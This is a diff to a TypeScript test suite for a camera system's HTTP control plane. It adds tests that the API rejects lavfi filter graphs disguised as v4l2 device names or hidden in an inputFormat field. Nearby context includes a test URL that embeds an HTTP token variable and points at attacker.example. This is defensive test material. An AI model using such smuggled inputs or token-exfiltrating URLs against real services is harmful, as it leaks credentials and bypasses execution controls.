@@ -427,6 +427,14 @@ describe('HTTP control plane', { timeout: 180_000 }, () => {
       body: { ...entry([{ id: 'motion', module: 'builtin:motion' }]), streams: { sub: { source: graph } } },
     });
     assert.match(sub.json!.error!.message, /cameras\.graph2\.streams\.sub: a lavfi: source/);
+    // The same graph as a v4l2 "device" (or a file name) read with inputFormat lavfi: a filter graph by another name.
+    const forced = await expectError(403, 'ERR_HTTP_EXEC_NOT_ALLOWED', 'POST', '/api/cameras/graph3', {
+      body: { ...entry([{ id: 'motion', module: 'builtin:motion' }], `v4l2:${graph.slice('lavfi:'.length)}`), capture: { ...capture, inputFormat: 'lavfi' } },
+    });
+    assert.match(forced.json!.error!.message, /cameras\.graph3\.capture\.inputFormat: inputFormat lavfi/);
+    await expectError(403, 'ERR_HTTP_EXEC_NOT_ALLOWED', 'POST', '/api/cameras/graph4', {
+      body: { ...entry([{ id: 'motion', module: 'builtin:motion' }], vtest()), capture: { ...capture, inputFormat: 'mpjpeg,LAVFI' } },
+    });
     assert.equal(existsSync(written), false, 'no file written');
     const refused = await expectError(403, 'ERR_HTTP_ENV_REFERENCE', 'POST', '/api/cameras/env1', {
       body: entry([{ id: 'motion', module: 'builtin:motion' }], 'rtsp://${FRAMESUPPLIER_HTTP_TOKEN}@attacker.example/s'),
@@ -436,6 +444,7 @@ describe('HTTP control plane', { timeout: 180_000 }, () => {
     assert.equal(system.stats().cameras.exec1, undefined);
     assert.equal(system.stats().cameras.env1, undefined);
     assert.equal(system.stats().cameras.graph1, undefined);
+    assert.equal(system.stats().cameras.graph3, undefined);
     // Built-in modules, and a literal $${ (escaped), are fine.
     assert.equal((await call('POST', '/api/cameras/lit1', { body: entry([{ id: 'motion', module: 'builtin:motion' }], `${vtest()}`) })).status, 201);
     await call('DELETE', '/api/cameras/lit1');
